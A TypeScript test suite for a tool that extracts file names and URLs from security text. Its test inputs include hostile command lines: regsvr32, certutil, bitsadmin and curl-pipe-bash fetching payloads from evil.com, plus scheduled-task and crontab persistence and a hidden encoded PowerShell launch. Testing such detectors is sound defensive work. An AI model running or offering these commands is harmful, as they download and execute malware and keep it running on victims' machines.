import { testFinds } from './test-finds.ts';

const { raw } = String;
testFinds('names of files are found', [
  [
    'invoice.pdf.exe readme.txt how_to_decrypt.html',
    'filename invoice.pdf.exe · filename readme.txt · filename how_to_decrypt.html',
  ],
  [
    'install.sh evil.py main.cc util.py setup.py README.md Report.md payload.zip photo.mov data.cab',
    'filename install.sh · filename evil.py · filename main.cc · filename util.py · filename setup.py · filename README.md · filename Report.md · filename payload.zip · filename photo.mov · filename data.cab',
  ],
  [
    'backup.tar.gz, libc.so.6, docker-compose.yml, package.json',
    'filename backup.tar.gz · filename libc.so.6 · filename docker-compose.yml · filename package.json',
  ],
  [raw`C:\Windows\System32\command.com`, raw`filename C:\Windows\System32\command.com`],
  [
    raw`C:\Users\joe\AppData\Local\Temp\evil.com`,
    raw`filename C:\Users\joe\AppData\Local\Temp\evil.com`,
  ],
  [
    raw`rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL`,
    raw`filename rundll32.exe · filename C:\Windows\System32\shell32.dll`,
  ],
  [
    'regsvr32 /s /n /u /i:http://evil.com/a.sct scrobj.dll',
    'url http://evil.com/a.sct · filename scrobj.dll',
  ],
  [
    raw`certutil -urlcache -split -f http://evil.com/a.exe C:\Users\Public\a.exe`,
    raw`url http://evil.com/a.exe · filename C:\Users\Public\a.exe`,
  ],
  [
    raw`bitsadmin /transfer job http://evil.com/a.exe %TEMP%\a.exe`,
    raw`url http://evil.com/a.exe · filename %TEMP%\a.exe`,
  ],
  [
    raw`schtasks /create /tn "Updater" /tr "C:\ProgramData\upd.exe" /sc minute /mo 5`,
    raw`filename C:\ProgramData\upd.exe`,
  ],
  [
    raw`cmd.exe /c "start /b C:\PerfLogs\x.bat"`,
    raw`filename cmd.exe · filename C:\PerfLogs\x.bat`,
  ],
  [raw`\\10.0.0.5\ADMIN$\svc.exe`, raw`filename \\10.0.0.5\ADMIN$\svc.exe`],
  [
    raw`\Device\HarddiskVolume2\Windows\System32\cmd.exe`,
    raw`filename \Device\HarddiskVolume2\Windows\System32\cmd.exe`,
  ],
  [raw`"%ProgramFiles(x86)%\Foo\bar.exe" -k arg`, raw`filename %ProgramFiles(x86)%\Foo\bar.exe`],
  [
    raw`"C:\Program Files (x86)\Foo\bar.exe" -k arg`,
    raw`filename C:\Program Files (x86)\Foo\bar.exe`,
  ],
  [
    raw`C:\Program Files (x86)\Foo\bar.exe -k arg`,
    raw`filename C:\Program Files (x86)\Foo\bar.exe`,
  ],
  [raw`"path":"C:\\Users\\Public\\a.exe"`, raw`filename C:\Users\Public\a.exe`],
  ['c:/users/public/a.exe', 'filename c:/users/public/a.exe', 'filename domain url'],
  [
    '/usr/bin/curl -fsSL http://evil.com/x.sh | bash',
    'filename /usr/bin/curl · url http://evil.com/x.sh',
  ],
  [
    'wrote /dev/shm/kinsing and /etc/cron.d/zzz.',
    'filename /dev/shm/kinsing · filename /etc/cron.d/zzz',
  ],
  [
    '/Library/LaunchAgents/com.evil.agent.plist',
    'filename /Library/LaunchAgents/com.evil.agent.plist',
  ],
  ['com.evil.agent.plist', 'filename com.evil.agent.plist'],
  [
    '/Applications/Evil.app/Contents/MacOS/Evil',
    'filename /Applications/Evil.app/Contents/MacOS/Evil',
  ],
  [
    'File "/usr/lib/python3.8/socket.py", line 918, in makefile',
    'filename /usr/lib/python3.8/socket.py',
  ],
  [raw`at Foo.Bar.Connect(EndPoint remoteEP) in C:\src\a.cs:line 42`, raw`filename C:\src\a.cs`],
  [
    'crontab: */5 * * * * /var/tmp/.x/run >/dev/null 2>&1',
    'filename /var/tmp/.x/run · filename /dev/null',
  ],
  [
    'evil.docm (SHA-256 below), invoice_2023-10-12.xlsm; "a.lnk"',
    'filename evil.docm · filename invoice_2023-10-12.xlsm · filename a.lnk',
  ],
  ['<script src="jquery.min.js"></script>', 'filename jquery.min.js'],
  ['report.PDF and SETUP.EXE', 'filename report.PDF · filename SETUP.EXE'],
  ['~/.ssh/authorized_keys', 'filename ~/.ssh/authorized_keys'],
  ['rechnung_märz.zip', 'filename rechnung_märz.zip'],
  ['счет.exe', 'filename счет.exe'],
  ['dropper.exe.config', 'filename dropper.exe.config'],
  [
    raw`%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`,
    raw`filename %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`,
  ],
  ['Content-Disposition: attachment; filename=invoice.zip', 'filename invoice.zip'],
  [raw`Global\{0A1B2C3D-1111-2222-3333-444455556666}`, 'uuid 0a1b2c3d-1111-2222-3333-444455556666'],
  ['Monlam_Grand_Tibetan_Dictionary_2018.zip', 'filename Monlam_Grand_Tibetan_Dictionary_2018.zip'],
  ['he said "run evil.exe"', 'filename evil.exe'],
  ['"open the file evil.exe"', 'filename evil.exe'],
  ['| run it with cmd.exe |', 'filename cmd.exe'],
  [
    'Setup.EXE, Default.SFX, _hashlbi.pyw',
    'filename Setup.EXE · filename Default.SFX · filename _hashlbi.pyw',
  ],
  [raw`Image|endswith: '\rundll32.exe'`, 'filename rundll32.exe'],
  [raw`- '\net.exe' or '\taskkill.exe'`, 'filename net.exe · filename taskkill.exe'],
  [raw`run:\r\nnet.exe`, 'filename net.exe'],
  [
    raw`"command_line":"\"C:\\Windows\\System32\\cmd.exe\" /c ping"`,
    raw`filename C:\Windows\System32\cmd.exe`,
  ],
  [raw`C:\Temp\Cache\ and C:\Temp\Cache`, raw`filename C:\Temp\Cache · filename C:\Temp\Cache`],
  [raw`"$env:APPDATA\OneDrive\upd.exe"`, raw`filename $env:APPDATA\OneDrive\upd.exe`],
  ['${env:ProgramFiles(x86)}\\Foo\\a.exe', 'filename ${env:ProgramFiles(x86)}\\Foo\\a.exe'],
  [raw`%STARTUP%\Control Panel.lnk`, raw`filename %STARTUP%\Control Panel.lnk`],
  [
    raw`%APPDATA%\evil.lnk and \\10.0.0.5\c$\x.exe`,
    raw`filename %APPDATA%\evil.lnk · filename \\10.0.0.5\c$\x.exe`,
  ],
  [raw`C:\Temp\a.exe b.exe`, raw`filename C:\Temp\a.exe · filename b.exe`],
  [
    raw`"%SystemRoot%\System32\svchost.exe -k DComLaunch"`,
    raw`filename %SystemRoot%\System32\svchost.exe`,
  ],
  [raw`%APPDATA%Realtek\Drv7\alcrmv.exe`, raw`filename %APPDATA%Realtek\Drv7\alcrmv.exe`],
]);

testFinds('names with spaces are found where nothing else stands between quotes or bars', [
  ['`HSBC job offer.pdf.zip`', 'filename HSBC job offer.pdf.zip'],
  ['"Invoice 4471.zip"', 'filename Invoice 4471.zip'],
  ['filename="Invoice 4471.zip"; size=1', 'filename Invoice 4471.zip'],
  ['the file `setup 1.2.exe` and evil.exe', 'filename setup 1.2.exe · filename evil.exe'],
  ['|Name|Size\n|BOLETA DE PERMISO docx.scr\n', 'filename BOLETA DE PERMISO docx.scr'],
  ['Type\tValue\tNote\nFile\tAnlage 2023-10-16.zip\tlure\n', 'filename Anlage 2023-10-16.zip'],
  ['id,name\n1,Invoice 4471.zip\n2,a.exe\n', 'filename Invoice 4471.zip · filename a.exe'],
  ['"Run the file evil.exe"', 'filename evil.exe'],
  ['"Windows Defender detected mimikatz.exe"', 'filename mimikatz.exe'],
  ['"Backdoored copy of ffmpeg.dll"', 'filename ffmpeg.dll'],
  ['`python evil.py` and `Foo -File run.ps1`', 'filename evil.py · filename run.ps1'],
  ['| Loader evil.exe, helper.dll |', 'filename evil.exe · filename helper.dll'],
  ['Loader evil.exe', 'filename evil.exe'],
  [
    'setup.py/README.md and docs.zip/a.js',
    'filename setup.py · filename README.md · filename docs.zip · filename a.js',
  ],
  ['hosts.conf(5)', 'filename hosts.conf'],
]);

testFinds('what only looks like a file is not found', [
  ['and/or, 24/7, TCP/IP, N/A, C&C, km/h, his/her, client/server, I/O', ''],
  ['dir /s /q /a:h', ''],
  ['</div><br/><p class="x"/>', ''],
  ['Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', ''],
  ['Server: nginx/1.18.0 (Ubuntu)', ''],
  [raw`NT AUTHORITY\SYSTEM, BUILTIN\Administrators, CORP\joe, DESKTOP-12\joe`, ''],
  ['TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', ''],
  ['SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', ''],
  ['powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', ''],
  ['relaxed/relaxed; rsa-sha256', ''],
  ['linux/amd64 and Win32/64', ''],
  ['using System.Text.Json; and Newtonsoft.Json', ''],
  [raw`fl_%timestamp%\strcn%num%\x`, ''],
  [raw`"%s\\%s.dat" and %08x.exe`, ''],
  [raw`100%ig\x and %20foo\bar`, ''],
  ['|Win64/NukeSped.KT | Win32/Agent.DJ', ''],
]);
